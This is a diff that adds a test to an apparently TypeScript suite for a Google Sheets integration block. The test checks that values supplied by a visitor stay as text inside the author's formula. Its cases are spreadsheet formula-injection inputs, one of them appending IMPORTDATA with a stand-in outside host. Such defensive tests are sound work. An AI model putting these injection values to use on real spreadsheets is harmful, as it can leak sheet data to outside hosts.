@@ -68,6 +68,28 @@ describe("20.7 getting data", () => {
     expect(resume({ ...get, totalRowsToExtract: "Random" }).set?.[0]?.value).toBe("Bob")
   })
 
+  it.each([
+    ['=HYPERLINK("https://x.example/{{A}}","{{A}}")', '")&IMPORTDATA("https://y.example', [2, 2]],
+    ["={{A}}*2", "IMPORTDATA(A1)", [1, 0]],
+    ["=SUM(1,{{A}})", '1,A1:A9)&"', [1, 0]],
+  ])("keeps what a visitor said within the author's formula %s one text", (value, said) => {
+    const cells = { action: "Insert a row" as const, cellsToInsert: [{ column: "Name", value }] }
+    const scene = testScene({ variables: { A: said }, plain: ["A"] })
+    const call = callOf(
+      googleSheetsBlock.resume.sheet(blockOf({ ...get, ...cells }), answer, scene),
+    )
+    const row = call && "row" in call ? call.row : undefined
+    const written = row?.[0] ?? ""
+    // Without its texts, only what the author wrote is left of a formula.
+    const bare = written.replaceAll(/"(?:[^"]|"")*"/g, "T")
+    expect(bare).toBe(value.replaceAll(/"[^"]*"/g, "T").replaceAll("{{A}}", "T"))
+    const number = testScene({ variables: { A: "-1.5" }, plain: ["A"] })
+    const other = callOf(
+      googleSheetsBlock.resume.sheet(blockOf({ ...get, ...cells }), answer, number),
+    )
+    expect(other && "row" in other ? other.row?.[0] : "").toBe(value.replaceAll("{{A}}", "-1.5"))
+  })
+
   it("joins comparisons by any, unless the filter says AND", () => {
     const comparisons = [
       { column: "Name", comparisonOperator: "Contains" as const, value: "ann" },
